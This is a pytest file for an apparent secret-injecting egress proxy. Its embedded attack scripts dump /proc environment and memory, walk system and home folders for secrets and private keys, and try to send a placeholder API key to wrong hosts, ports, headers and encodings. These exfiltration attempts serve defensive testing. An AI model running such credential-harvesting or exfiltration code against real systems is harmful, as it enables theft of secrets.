"""S1 to S4: a secret goes to its own place, and is seen nowhere else."""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest

from tests.attack.egress.scene import BOTH, Scene, told
from tests.egress.behind import Outcome
from tests.internet import Internet, Origin

SECRET = "sk-ant-api03-Zq8vKp3WmXr7TyBn2LsDf5HgJc9RtEaUo4MiVb6NxQwPzYkGhSdFlCj1"
INJECTION = {
    "secret_id": "KEY",
    "host": "api.example",
    "port": 443,
    "scheme": "tls",
    "header": "x-api-key",
    "template": "{}",
}
BASIC = INJECTION | {"header": "authorization", "template": "Basic *:{}"}
POLICY = """
domains:
  - plain.example
  - {host: api.example, ports: [443, 80, 8443]}
  - {host: inside.example, methods: [GET, POST]}
"""
KEY = """
KEY = os.environ["KEY"]
def over(host="api.example", port=443): return secured(dial(host, port), host)
def post(host, body, *lines, path="/echo", method="POST"):
    return get(path, host, f"Content-Length: {len(body)}", *lines, LAST, method=method) + body
"""
CONTROL = """
say(over(), get("/control", "api.example", f"x-api-key: {KEY}", LAST))
"""


@pytest.fixture(scope="module")
def inside(the_internet: Internet) -> Origin:
    """An allowed host whose requests the fence sees, and that no secret is for."""
    return the_internet.origin("inside.example", tls=True)


@pytest.fixture
def origins(scene: Scene, inside: Origin) -> tuple[Origin, ...]:
    sites = scene.sites
    return sites.api, sites.plain, inside, *sites.others, scene.world.lan


def attack(scene: Scene, script: str, **given: Any) -> Outcome:
    given = {"policy": POLICY, "injections": [INJECTION], "secrets": {"KEY": SECRET}} | given
    return scene.attack(KEY + script, **given)


def sent(origins: tuple[Origin, ...]) -> Iterator[tuple[str, str]]:
    """Where the secret arrived: at whom, and in which header."""
    for origin in origins:
        for visit in origin.visits:
            for form in _forms(SECRET):
                for line in visit.raw.split(b"\r\n"):
                    if form in line:
                        yield origin.name, line.partition(b":")[0].decode("latin-1").lower()


def _forms(secret: str) -> tuple[bytes, ...]:
    plain = secret.encode()
    return plain, plain[::-1], plain.hex().encode(), base64.b64encode(b"u:" + plain)


@BOTH
def test_the_secret_is_nowhere_inside(scene: Scene) -> None:
    """After it was used: not in any environment, argument, file, descriptor or memory there."""
    (scene.workspace / "dump").mkdir(mode=0o777)
    (scene.workspace / "dump").chmod(0o777)
    attack(
        scene,
        """
echoed = say(over(), get("/headers", "api.example", f"x-api-key: {KEY}", LAST))
count = 0
def keep(data):
    global count
    count += 1
    with open(f"dump/{count}", "wb") as file: file.write(data)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        with quietly(), open(f"/proc/{pid}/{name}", "rb") as file: keep(file.read())
    with quietly(), open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with quietly():
                memory.seek(start)
                keep(memory.read(end - start))
for top in ("/etc", "/tmp", "/run", os.environ["HOME"], "/var/tmp", "/dev/shm"):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            with quietly():
                if os.path.isfile(path) and "/dump/" not in path:
                    with open(path, "rb") as file: keep(file.read(8 << 20))
""",
    )
    dumped = [file.read_bytes() for file in (scene.workspace / "dump").iterdir()]
    assert len(dumped) > 50
    assert any(b"hello from" in each or b"x-api-key" in each for each in dumped)
    for form in _forms(SECRET):
        assert not any(form in each for each in dumped), form
    key = b"-----BEGIN PRIVATE" + b" KEY-----"
    ours = [each for each in dumped if key in each and b"ags" in each[:200]]
    assert ours == []
    assert any(SECRET in str(seen.headers) for seen in scene.sites.api.requests)


def test_the_secret_goes_to_its_own_host_port_scheme_and_header(
    scene: Scene, origins: tuple[Origin, ...]
) -> None:
    odd = scene.world.origin("api.example", tls=True, port=8443)
    clear = scene.world.origin("api.example", port=80)
    ended = attack(
        scene,
        """
def tried(talk, request):
    with quietly(): say(talk(), request)
header = f"x-api-key: {KEY}"
tried(lambda: dial("plain.example", 80), get("/stolen", "plain.example", header, LAST))
tried(lambda: dial("api.example", 80), get("/stolen", "api.example", header, LAST))
tried(lambda: over(port=8443), get("/stolen", "api.example:8443", header, LAST))
tried(lambda: dial("api.example", 8443), get("/stolen", "api.example:8443", header, LAST))
tried(lambda: over("inside.example"), get("/stolen", "inside.example", header, LAST))
tried(lambda: over("other.example"), get("/stolen", "other.example", header, LAST))
tried(lambda: secured(dial("inside.example", 443), "api.example"),
      get("/s", "api.example", header, LAST))
tried(lambda: over("inside.example"), get("/stolen", "api.example", header, LAST))
tried(lambda: over(), get("/stolen", "inside.example", header, LAST))
for line in (f"x-other: {KEY}", f"Cookie: k={KEY}", f"Authorization: Bearer {KEY}",
             f"x-api-key: x{KEY}", f"x-api-key: {KEY}, {KEY}", f"x-api-key: {KEY}{KEY}",
             f"{KEY}: x", f"User-Agent: {KEY}"):
    tried(over, get("/stolen", "api.example", line, LAST))
"""
        + CONTROL,
    )
    assert list(sent((*origins, odd, clear))) == [("api.example", "x-api-key")]
    assert [seen.path for seen in scene.sites.api.requests] == ["/control"]
    assert ended.reasons.count("placeholder") >= 10


@pytest.mark.parametrize(
    ("name", "wishes"),
    [
        ("liar.example", {"certificate": "other.example"}),
        ("stranger.example", {"trusted": False}),
        ("stale.example", {"lasts": timedelta(days=-1)}),
    ],
)
def test_an_origin_that_cannot_prove_its_name_is_told_nothing(
    scene: Scene, name: str, wishes: dict[str, object]
) -> None:
    """As when DNS points the name somewhere else."""
    liar = scene.world.origin(name, tls=True, **wishes)  # type: ignore[arg-type]
    ended = attack(
        scene,
        f'say(over("{name}"), get("/x", "{name}", f"x-api-key: {{KEY}}", LAST))' + CONTROL,
        policy=POLICY + f"  - {name}\n",
        injections=[INJECTION, INJECTION | {"host": name}],
    )
    assert liar.hellos == [name]
    assert liar.requests == []
    assert list(sent((liar, scene.sites.api))) == [("api.example", "x-api-key")]
    assert "unreachable" in ended.reasons


def test_a_name_that_is_pointed_elsewhere_takes_no_secret_along(scene: Scene) -> None:
    scene.world.answers("api.example", [scene.sites.other.address])
    try:
        attack(scene, CONTROL)
    finally:
        scene.world.answers("api.example", [scene.sites.api.address])
    assert scene.sites.other.hellos == ["api.example"]
    assert scene.sites.other.requests == []
    attack(scene, CONTROL)
    assert list(sent((scene.sites.api,))) == [("api.example", "x-api-key")]


def test_the_placeholder_anywhere_else_is_refused_and_reported(
    scene: Scene, origins: tuple[Origin, ...]
) -> None:
    """In the target, a trailer or another header; encoded or not."""
    ended = attack(
        scene,
        r"""
import base64
from urllib.parse import quote
key, half = KEY.encode(), len(KEY) // 2
def chunk(data): return b"%x\r\n%s\r\n" % (len(data), data)
coded = base64.b64encode(b"user:" + key).decode()
for host, talk in (("api.example", over), ("inside.example", lambda: over("inside.example")),
                   ("plain.example", lambda: dial("plain.example", 80))):
    def tried(*pieces):
        with quietly(): say(talk(), *pieces, pause=0.05)
    tried(get(f"/x?key={KEY}", host, LAST))
    tried(get(f"/{KEY}/x", host, LAST))
    tried(get("/x?key=" + "".join(f"%{byte:02x}" for byte in key), host, LAST))
    start = get("/up", host, "Transfer-Encoding: chunked", LAST, method="POST")
    tried(start + chunk(b"x") + b"0\r\nX-Last: " + key + b"\r\n\r\n")
    tried(get("/x", host, f"Authorization: Basic {coded}", LAST))
    tried(get("/x", host, f"X-Data: {coded}", LAST))
tell(key=KEY)
"""
        + CONTROL,
    )
    stands = str(told(ended)["key"])
    assert stands != SECRET and len(stands) == len(SECRET) and stands[:13] == SECRET[:13]
    assert list(sent(origins)) == [("api.example", "x-api-key")]
    arrived = [visit.raw for origin in origins for visit in origin.visits]
    assert not any(stands.encode() in raw for raw in arrived)
    assert ended.reasons.count("placeholder") == 18


def test_a_placeholder_in_a_body_passes_unchanged_and_is_noted_once_per_host(
    scene: Scene, origins: tuple[Origin, ...], inside: Origin
) -> None:
    """An agent that once printed its environment repeats it in every request to its model."""
    ended = attack(
        scene,
        r"""
import base64, gzip
key, half = KEY.encode(), len(KEY) // 2
def chunk(data): return b"%x\r\n%s\r\n" % (len(data), data)
packed = gzip.compress(b"KEY=" + key)
for host, talk in (("api.example", over), ("inside.example", lambda: over("inside.example")),
                   ("plain.example", lambda: dial("plain.example", 80))):
    own = (f"x-api-key: {KEY}",) if host == "api.example" else ()
    start = get("/echo", host, "Transfer-Encoding: chunked", *own, LAST, method="POST")
    body = post(host, b"KEY=" + key, *own)
    say(talk(), body[:-half], body[-half:], pause=0.05)
    heard = say(talk(), body)
    say(talk(), start, chunk(b"KEY=" + key[:half]), chunk(key[half:]) + b"0\r\n\r\n", pause=0.05)
    say(talk(), post(host, base64.b64encode(b"KEY=" + key), *own))
    say(talk(), post(host, packed, "Content-Encoding: gzip", *own))
    tell(heard=heard.decode())
tell(key=KEY)
""",
    )
    stands = str(told(ended)["key"])
    assert stands in told(ended)["heard"], "it comes back as it was sent"
    plain, coded = f"KEY={stands}".encode(), base64.b64encode(f"KEY={stands}".encode())
    for origin in (scene.sites.api, inside, scene.sites.plain):
        *bodies, packed = [seen.body for seen in origin.requests]
        assert bodies == [plain, plain, plain, coded] and gzip.decompress(packed) == plain
    assert list(sent(origins)) == [("api.example", "x-api-key")] * 5, "in its header alone"
    noted = [line["host"] for line in ended.audit if line["reason"] == "placeholder-passed"]
    assert noted == ["api.example", "inside.example", "plain.example"], "once for each host"
    assert set(ended.reasons) == {"placeholder-passed"}


@pytest.mark.parametrize("cut", [7, 60])
def test_a_placeholder_cut_in_two_is_noted(scene: Scene, cut: int) -> None:
    ended = attack(
        scene,
        f"""
body = post("inside.example", b"x" * 100 + KEY.encode())
say(over("inside.example"), body[:-{cut}], body[-{cut}:], pause=0.05)
""",
    )
    assert ended.reasons == ["placeholder-passed"]


def test_an_echo_of_the_secret_is_covered(scene: Scene) -> None:
    """However the origin says it back; the secret was there, or it could not have."""
    ended = attack(
        scene,
        """
for path in ("/headers", "/echo"):
    request = post("api.example", b"x" * 50, f"x-api-key: {KEY}", path=path)
    tell(**{path: say(over(), request).decode()})
lines = (f"x-api-key: {KEY}", "Accept-Encoding: gzip", "Upgrade: h2c", LAST)
tell(upgraded=say(over(), get("/headers", "api.example", *lines)).decode())
""",
    )
    assert [SECRET in str(seen.headers) for seen in scene.sites.api.requests] == [True] * 3
    heard = told(ended)
    assert "x-api-key" in heard["/headers"] and "*" * len(SECRET) in heard["/headers"]
    for form in _forms(SECRET):
        assert form.decode() not in ended.out


def test_basic_credentials_are_looked_into_and_covered(scene: Scene) -> None:
    ended = attack(
        scene,
        """
import base64
coded = base64.b64encode(f"u:{KEY}".encode()).decode()
request = get("/headers", "api.example", f"Authorization: Basic {coded}", LAST)
tell(heard=say(over(), request).decode())
""",
        injections=[BASIC],
    )
    (seen,) = scene.sites.api.requests
    assert base64.b64decode((seen.header("authorization") or "")[6:]) == f"u:{SECRET}".encode()
    for form in _forms(SECRET):
        assert form.decode() not in ended.out


def test_the_secret_is_in_no_log(scene: Scene) -> None:
    """Whatever goes wrong with it: neither in the audit, nor in errors, nor in what is answered."""
    liar = scene.world.origin("log.example", tls=True, trusted=False)
    ended = attack(
        scene,
        """
for host in ("api.example", "log.example", "gone.example", "inside.example"):
    for path in ("/half", "/close", "/status?code=500", f"/x?{KEY}", "/headers"):
        with quietly():
            said = say(over(host), get(path, host, f"x-api-key: {KEY}", LAST))
            print(json.dumps({path: said.decode("latin-1")}))
"""
        + CONTROL,
        policy=POLICY + "  - log.example\n  - gone.example\n",
        injections=[INJECTION, *(INJECTION | {"host": h} for h in ("log.example", "gone.example"))],
    )
    assert liar.requests == []
    said = (*map(str, ended.audit), ended.log, ended.out, ended.err)
    for form in _forms(SECRET):
        assert not any(form.decode() in each for each in said), form
    assert SECRET in str([seen.headers for seen in scene.sites.api.requests])
    assert "?" not in "".join(str(line["path"]) for line in ended.audit)
